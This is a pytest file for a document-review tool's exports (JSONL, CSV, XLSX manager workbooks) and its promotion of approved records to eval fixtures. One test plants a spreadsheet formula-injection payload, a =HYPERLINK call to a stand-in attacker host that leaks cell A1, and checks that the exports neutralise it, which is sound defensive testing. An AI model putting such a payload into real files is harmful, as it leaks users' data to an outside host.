"""Exports (JSONL, CSV, XLSX) and promotion to a gold fixture."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from crossfoot.errors import StoreError
from crossfoot.model import Envelope, Record
from crossfoot.review.edits import apply_repair, save_field, set_status
from crossfoot.review.export import (
    csv_safe,
    export_items,
    fixture_name,
    iter_export_items,
    path_base,
    promote,
    relative_to,
    write_csv,
    write_jsonl,
    write_xlsx,
)
from crossfoot.review.queue import queue
from crossfoot.review.store import Store
from crossfoot.review.view import form_view
from tests.conftest import ROOT
from tests.review.helpers import Run


def approve_first(store: Store, *, repair: bool = True) -> int:
    row = queue(store)[0]
    view = form_view(store, row.form_id)
    version = view.form.version
    repairs = [fv.finding.repair for fv in view.findings if fv.finding.repair]
    if repair and repairs:
        version = apply_repair(store, row.form_id, repairs[0].field, version=version, reviewer="ann").version
    set_status(store, row.form_id, "approve", version=version, reviewer="ann")
    return row.form_id


def test_jsonl_lines_are_envelopes_with_the_review_state(loaded: Store, sample_run: Run) -> None:
    form_id = approve_first(loaded)
    buffer = io.StringIO()
    write_jsonl(export_items(loaded), buffer)
    lines = buffer.getvalue().splitlines()
    assert len(lines) == len(sample_run[1])
    envelopes = [Envelope.model_validate_json(line) for line in lines]
    approved = [e for e in envelopes if e.meta["review"]["status"] == "approved"]
    assert [e.meta["review"]["form_id"] for e in approved] == [form_id]
    assert approved[0].meta["review"]["reviewed_by"] == "ann"
    unchanged = {(e.source.sha256, e.source.form_index): e for e in sample_run[1]}
    for envelope in envelopes:
        if envelope.meta["review"]["status"] != "approved":
            original = unchanged[(envelope.source.sha256, envelope.source.form_index)]
            assert envelope.record == original.record and envelope.source == original.source


def test_status_filter(loaded: Store) -> None:
    form_id = approve_first(loaded)
    assert [i.form.id for i in export_items(loaded, "approved")] == [form_id]
    assert form_id not in [i.form.id for i in export_items(loaded, "needs_review")]


def test_csv_has_one_row_per_form_with_the_funding_block(loaded: Store, sample_run: Run) -> None:
    buffer = io.StringIO()
    write_csv(export_items(loaded), buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert len(rows) == len(sample_run[1])
    first = sample_run[1][0]
    shown = relative_to(first.source.path, path_base(e.source.path for e in sample_run[1]))
    assert shown != first.source.path and first.source.path.endswith("/" + shown)  # relative to the input folder
    match = next(r for r in rows if r["path"] == shown and r["form_index"] == "0")
    assert first.record is not None and first.record.funding.total is not None
    assert Decimal(match["funding.total.executed"]) == first.record.funding.total.executed
    assert match["project_name"] == first.record.project_name
    assert int(match["indicator_count"]) == len(first.record.indicators)


def test_xlsx_has_forms_and_indicators_with_numbers_as_numbers(loaded: Store, sample_run: Run, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "out.xlsx"
    write_xlsx(export_items(loaded), target)
    book = load_workbook(target)
    assert book.sheetnames == ["forms", "indicators"]
    forms, indicators = book["forms"], book["indicators"]
    assert forms.max_row - 1 == len(sample_run[1])
    assert indicators.max_row - 1 == sum(len(e.record.indicators) for e in sample_run[1] if e.record)
    header = [c.value for c in forms[1]]
    score = forms.cell(2, header.index("total_score") + 1)
    assert score.data_type == "n" and isinstance(score.value, int | float)
    name = forms.cell(2, header.index("project_name") + 1)
    assert name.data_type == "s"
    ind_header = [c.value for c in indicators[1]]
    weights = [indicators.cell(r, ind_header.index("weight") + 1) for r in range(2, indicators.max_row + 1)]
    assert all(c.data_type == "n" for c in weights if c.value is not None)
    first = sample_run[1][0].record
    assert first is not None and first.indicators[0].weight is not None
    assert Decimal(str(weights[0].value)) == first.indicators[0].weight


def test_promote_writes_an_eval_fixture(loaded: Store, tmp_path: Path) -> None:
    form_id = approve_first(loaded)
    when = datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC)
    path = promote(loaded, form_id, tmp_path, by="ann", now=when)
    data = json.loads(path.read_text(encoding="utf-8"))
    view = form_view(loaded, form_id)
    assert path.name == fixture_name(view.path, view.form.form_index)
    assert data["_source"] == {
        "file": view.path,
        "form_index": view.form.form_index,
        "title_line": view.form.first_line,
    }
    assert data["_notes"] == ["promoted from review by ann at 2025-03-04T05:06:07+00:00"]
    record = Record.model_validate({k: v for k, v in data.items() if not k.startswith("_")})
    assert record.model_dump(mode="json") == view.record


def test_promoted_names_match_the_gold_labels(loaded: Store) -> None:
    labels = {p.name for p in (ROOT / "eval" / "labels_a").glob("*.json")}
    names = {fixture_name(i.document.path, i.form.form_index) for i in export_items(loaded)}
    assert names == labels


def test_promote_refuses_unapproved_records_and_existing_fixtures(loaded: Store, tmp_path: Path) -> None:
    waiting = queue(loaded)[0].form_id
    with pytest.raises(StoreError, match="only an approved record"):
        promote(loaded, waiting, tmp_path, by="ann")
    form_id = approve_first(loaded, repair=False)
    promote(loaded, form_id, tmp_path, by="ann")
    with pytest.raises(StoreError, match="exists"):
        promote(loaded, form_id, tmp_path, by="bob")
    promote(loaded, form_id, tmp_path, by="bob", overwrite=True)


PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def plant(store: Store) -> int:
    """A document whose project name is a spreadsheet formula; its form id."""
    row = queue(store)[0]
    save_field(store, row.form_id, "project_name", PLANTED, version=row.version, reviewer="ann")
    return row.form_id


def test_xlsx_text_is_never_a_formula(loaded: Store, tmp_path: Path) -> None:
    """Item 21: printed text such as "=100%" and a planted =HYPERLINK stay
    text cells; numbers stay numbers."""
    from openpyxl import load_workbook

    plant(loaded)
    target = tmp_path / "out.xlsx"
    write_xlsx(export_items(loaded), target)
    book = load_workbook(target)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    leading = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert PLANTED in [c.value for c in leading]
    assert len(leading) > 1, "the samples themselves print targets starting with '=' or '-'"
    assert any(c.data_type == "n" for c in cells)


def test_csv_neutralises_formula_text_but_not_numbers(loaded: Store) -> None:
    """Item 21: OWASP's advice: a text cell starting with = + - @ gets a
    leading quote; a negative number stays a number."""
    form_id = plant(loaded)
    buffer = io.StringIO()
    write_csv(export_items(loaded), buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    planted = next(r for r in rows if r["form_id"] == str(form_id))
    assert planted["project_name"] == "'" + PLANTED
    for row in rows:
        for key, value in row.items():
            if value.startswith(("=", "+", "@")):
                pytest.fail(f"{key}: {value!r} would run as a formula")
            if value.startswith("-"):
                Decimal(value)  # only numbers may start with a minus
    assert csv_safe("funding.total.executed", "-5") == "-5"
    assert csv_safe("grade", "-5") == "'-5"
    assert csv_safe("grade", "@SUM(A1)") == "'@SUM(A1)"


def test_export_reads_no_document_text(loaded: Store) -> None:
    """Item 23: the export streams forms without loading each document's
    whole text (what made 2,200 forms take 1 GB)."""
    items = iter_export_items(loaded, "all")
    first = next(items)
    assert "lines" not in first.document.__dict__
    assert sum(1 for _ in items) + 1 == len(export_items(loaded))


def test_a_corrupt_stored_record_is_named_not_a_traceback(loaded: Store, db_url: str) -> None:
    """Item 23: an export that fails half-way says which form, as a StoreError."""
    from sqlalchemy import create_engine, text

    engine = create_engine(db_url)
    with engine.begin() as conn:
        document = conn.execute(text("SELECT min(id) FROM documents")).scalar()
        form = conn.execute(
            text(
                "INSERT INTO forms (document_id, form_index, form_count, backend, title, first_line, last_line, "
                "status, version, record_number, created_at, updated_at) VALUES (:d, 99, 1, 'rules', 'x', 1, 2, "
                "'clean', 1, 1, '2025-01-01 00:00:00+00:00', '2025-01-01 00:00:00+00:00') RETURNING id"
            ),
            {"d": document},
        ).scalar()
        conn.execute(
            text(
                "INSERT INTO record_versions (form_id, number, origin, record, provenance, meta, created_at, "
                "created_by) VALUES (:f, 1, 'extraction', '{\"indicators\": 5}', '{}', '{}', "
                "'2025-01-01 00:00:00+00:00', 'someone')"
            ),
            {"f": form},
        )
    engine.dispose()
    with pytest.raises(StoreError, match=f"form {form}: its stored record is not a valid record"):
        export_items(loaded)


def test_a_value_the_source_does_not_print_is_marked_everywhere_and_promote_refuses_it(
    loaded: Store, tmp_path: Path
) -> None:
    """Issue 11, item 2: marked in the record, the exports and the fixture."""
    row = queue(loaded)[0]
    outcome = save_field(
        loaded,
        row.form_id,
        "total_score",
        "99",
        version=row.version,
        reviewer="ann",
        reason="the sum of the scores",
        action="unprinted",
    )
    view = form_view(loaded, row.form_id)
    assert list(view.unprinted) == ["total_score"] and "the sum of the scores" in view.unprinted["total_score"]
    set_status(loaded, row.form_id, "approve", version=outcome.version, reviewer="ann")
    (item,) = [i for i in export_items(loaded, "approved") if i.form.id == row.form_id]
    assert list(item.envelope.meta["review"]["not_as_printed"]) == ["total_score"]
    out = io.StringIO()
    write_csv([item], out)
    (exported,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert exported["not_as_printed"] == "total_score"
    with pytest.raises(StoreError, match="total_score differ from what the source prints"):
        promote(loaded, row.form_id, tmp_path, by="ann")
    assert not list(tmp_path.glob("*.json"))
    data = json.loads(promote(loaded, row.form_id, tmp_path, by="ann", allow_not_as_printed=True).read_text())
    assert data["_not_as_printed"] == ["total_score"] and "not as printed" in data["_notes"][1]


def test_typing_the_printed_value_again_clears_the_mark(loaded: Store) -> None:
    row = queue(loaded)[0]
    printed = form_view(loaded, row.form_id).record["total_score"]  # type: ignore[index]
    first = save_field(loaded, row.form_id, "total_score", "99", version=row.version, reviewer="a", action="unprinted")
    assert form_view(loaded, row.form_id).unprinted
    save_field(loaded, row.form_id, "total_score", printed, version=first.version, reviewer="a")
    assert form_view(loaded, row.form_id).unprinted == {}
    assert (
        next(i for i in export_items(loaded) if i.form.id == row.form_id).envelope.meta["review"]["not_as_printed"]
        == {}
    )


def test_xlsx_for_a_manager_has_the_audit_trail_and_a_summary(loaded: Store, tmp_path: Path) -> None:
    """Issue 11, item 14: the audit log as its own sheet, a summary sheet, dates as dates."""
    from openpyxl import load_workbook

    form_id = approve_first(loaded)
    target = tmp_path / "manager.xlsx"
    write_xlsx(export_items(loaded), target, store=loaded)
    book = load_workbook(target)
    assert book.sheetnames == ["forms", "indicators", "decisions", "discrepancies", "changes", "audit", "summary"]
    audit = list(book["audit"].iter_rows(values_only=True))
    assert audit[0][:5] == ("id", "at", "form_id", "reviewer", "action")
    approvals = [row for row in audit[1:] if row[4] == "approve"]
    assert [(row[2], row[3]) for row in approvals] == [(form_id, "ann")]
    assert isinstance(approvals[0][1], datetime)
    lines = list(book["summary"].iter_rows(values_only=True))
    summary = dict(line[:2] for line in lines[: lines.index((None,) * len(lines[0]))] if line)
    assert summary["forms"] == len(export_items(loaded)) and summary["approved"] == 1
    forms = list(book["forms"].iter_rows(values_only=True))
    header = forms[0]
    approved_row = next(row for row in forms[1:] if row[0] == form_id)
    assert isinstance(approved_row[header.index("reviewed_at")], datetime)


def sheet(book: object, title: str) -> list[dict[str, object]]:
    rows = list(book[title].iter_rows(values_only=True))  # type: ignore[index]
    return [dict(zip(rows[0], row, strict=False)) for row in rows[1:]]


def test_the_manager_export_has_decisions_discrepancies_and_changes(loaded: Store, tmp_path: Path) -> None:
    """Issue 11, item 14: every decision (who, when, why); each discrepancy an
    approved form keeps (printed vs expected); each changed value (old -> new,
    by whom, why); a summary by check; dates as dates; relative paths."""
    from openpyxl import load_workbook

    rows = queue(loaded)
    # one form with a value changed, then approved; one approved as printed; one rejected
    fixed = rows[0]
    old = form_view(loaded, fixed.form_id).record["department"]  # type: ignore[index]
    save_field(loaded, fixed.form_id, "department", "某某局", version=fixed.version, reviewer="ann", reason="scan typo")
    fixed_items = len(form_view(loaded, fixed.form_id).open_items)  # closed by the approval below
    set_status(loaded, fixed.form_id, "approve", version=fixed.version + 1, reviewer="ann")
    kept = next(
        r
        for r in queue(loaded)
        if r.form_id != fixed.form_id and any(i.severity == "error" for i in form_view(loaded, r.form_id).open_items)
    )
    kept_view = form_view(loaded, kept.form_id)
    reason = "the total is misprinted"
    set_status(loaded, kept.form_id, "approve", version=kept.version, reviewer="bob", reason=reason, as_printed=True)
    rejected = next(r for r in queue(loaded) if r.form_id not in (fixed.form_id, kept.form_id))
    set_status(loaded, rejected.form_id, "reject", version=rejected.version, reviewer="cai", reason="not a form")
    target = tmp_path / "manager.xlsx"
    write_xlsx(export_items(loaded), target, store=loaded)
    book = load_workbook(target)

    decisions = sheet(book, "decisions")
    assert [(d["form_id"], d["decision"], d["reviewer"]) for d in decisions] == [
        (fixed.form_id, "approve", "ann"),
        (kept.form_id, "approve", "bob"),
        (rejected.form_id, "reject", "cai"),
    ]
    assert decisions[2]["reason"] == "not a form" and reason in str(decisions[1]["reason"])
    assert all(isinstance(d["at"], datetime) for d in decisions)
    base = path_base(r.path for r in rows)
    assert base and {d["path"] for d in decisions} <= {relative_to(r.path, base) for r in rows}
    assert not any(str(d["path"]).startswith(base) for d in decisions)

    discrepancies = [d for d in sheet(book, "discrepancies") if d["form_id"] == kept.form_id]
    errors = [fv.finding for fv in kept_view.findings if fv.finding.severity.value == "error"]
    assert errors and len(discrepancies) == len(errors)
    for finding, row in zip(errors, discrepancies, strict=True):
        assert row["check"] == finding.code
        assert Decimal(str(row["printed"])) == Decimal(str(finding.printed))  # amounts as numbers
        assert Decimal(str(row["expected"])) == Decimal(str(finding.expected))
        assert row["approved_by"] == "bob" and isinstance(row["approved_at"], datetime)
        assert reason in str(row["reason"])
    assert {d["form_id"] for d in sheet(book, "discrepancies")} <= {fixed.form_id, kept.form_id}  # approved only

    (change,) = sheet(book, "changes")
    assert (change["form_id"], change["field"], change["reviewer"], change["reason"]) == (
        fixed.form_id,
        "department",
        "ann",
        "scan typo",
    )
    assert (change["old_value"], change["new_value"], change["action"]) == (old, "某某局", "edit")
    assert isinstance(change["at"], datetime)

    summary = list(book["summary"].iter_rows(values_only=True))
    table_at = summary.index(("check", "open", "approved as printed", "fixed", "rejected", "superseded"))
    by_check = {line[0]: line[1:] for line in summary[table_at + 1 :]}
    approved_as_printed = sum(counts[1] for counts in by_check.values())
    assert approved_as_printed == len(kept_view.open_items) + fixed_items
    assert sum(counts[3] for counts in by_check.values()) >= len(rejected.codes) >= 1
    assert sum(counts[0] for counts in by_check.values()) == sum(len(r.codes) for r in queue(loaded, None))


def test_paths_are_relative_to_the_common_folder() -> None:
    assert path_base(["in/a/x.txt", "in/b/y.txt"]) == "in"
    assert path_base(["/data/run/x.txt"]) == "/data/run"
    assert path_base(["x.txt", "y.txt"]) == ""
    assert path_base(["/abs/x.txt", "rel/y.txt"]) == ""
    assert relative_to("in/a/x.txt", "in") == "a/x.txt"
    assert relative_to("elsewhere/x.txt", "in") == "elsewhere/x.txt"


def test_a_relative_input_folder_matches_the_absolute_paths_a_run_stored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert relative_to(str(tmp_path / "in" / "a" / "x.txt"), "in") == "a/x.txt"


def test_export_relative_to_the_folder_the_run_was_given(loaded: Store, db_url: str, tmp_path: Path) -> None:
    """``crossfoot export --relative-to DIR``: paths in the CSV are relative to DIR."""
    from typer.testing import CliRunner

    from crossfoot.cli import app

    paths = {item.document.path for item in export_items(loaded)}
    parent = str(Path(next(iter(paths))).parent.parent)  # the folder above the documents' own
    target = tmp_path / "forms.csv"
    args = ["export", "--db", db_url, "--format", "csv", "-o", str(target), "--relative-to", parent]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    text = target.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")  # a BOM so Excel shows the Chinese
    shown = {row["path"] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}
    assert shown == {relative_to(path, parent) for path in paths}
    assert all("/" in path and not path.startswith(parent) for path in shown)  # the documents' folder kept
